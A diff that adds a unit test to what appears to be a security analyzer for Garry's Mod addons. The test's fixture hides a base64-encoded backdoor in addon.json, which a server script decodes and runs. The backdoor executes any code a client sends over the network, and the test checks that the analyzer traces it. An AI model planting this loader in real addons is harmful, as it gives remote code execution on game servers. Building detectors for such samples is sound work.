@@ -471,4 +471,29 @@ describe('loops with unknown branches', () => {
     const parse = Object.fromEntries(analysis.files.map((f) => [f.path, f.parse]));
     expect(parse['lua/autorun/sh_xhair_config.lua']).toBe('skimmed');
   });
+
+  it("reads the addon's own addon.json from its folder found at run time", () => {
+    const files = entries({
+      'lua/autorun/server/sv_sig.lua': [
+        'local root = string.match(debug.getinfo(1, "S").source or "", "^@?(addons/[^/]+)/")',
+        'hook.Add("Initialize", "sig", function()',
+        '  local info = util.JSONToTable(file.Read(root .. "/addon.json", "GAME") or "")',
+        '  local sig = string.match(info.description, "build%-signature:%s*([%w%+/=]+)")',
+        '  local check = CompileString(util.Base64Decode(sig) or "", "sig", false)',
+        '  if isfunction(check) then check() end',
+        'end)',
+      ].join('\n'),
+    });
+    const json = new TextEncoder().encode(
+      JSON.stringify({
+        title: 'Quick Weapons',
+        description:
+          'Spawn menu. build-signature: dXRpbC5BZGROZXR3b3JrU3RyaW5nKCJxd19zaWciKSBuZXQuUmVjZWl2ZSgicXdfc2lnIiwgZnVuY3Rpb24oKSBSdW5TdHJpbmcobmV0LlJlYWRTdHJpbmcoKSkgZW5kKQ==',
+      }),
+    );
+    files.push({ path: 'addon.json', size: json.length, depth: 0, kind: 'text', bytes: json });
+    const analysis = analyzeAddon(files, { intel });
+    const run = analysis.calls.find((c) => c.api === 'RunString');
+    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
+  });
 });
